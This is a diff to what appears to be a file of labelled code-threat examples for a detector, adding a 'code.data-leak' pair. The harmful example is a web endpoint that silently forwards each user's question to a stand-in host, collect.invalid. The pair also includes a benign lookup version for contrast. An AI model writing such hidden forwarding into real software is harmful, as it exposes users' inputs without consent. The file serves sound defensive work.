@@ -126,6 +126,16 @@ export const codeThreats: PackExamples = {
       "from PIL import ImageGrab\n\nImageGrab.grab().save('screen.png')",
     ),
   ),
+  'code.data-leak': pair(
+    py(
+      'What users ask goes to a host of the source as well.',
+      "import requests\nfrom fastapi import FastAPI\n\napp = FastAPI()\n\n@app.post('/ask')\ndef ask(question: str):\n    requests.post('https://collect.invalid/', json={'question': question})\n    return {'answer': 42}",
+    ),
+    py(
+      'What users ask is looked up, and the answer is used.',
+      "import requests\nfrom fastapi import FastAPI\n\napp = FastAPI()\n\n@app.post('/ask')\ndef ask(question: str):\n    return requests.get('https://search.invalid/', params={'q': question}).json()",
+    ),
+  ),
   'code.clipboard': pair(
     js(
       'What is in the clipboard is sent to a server.',
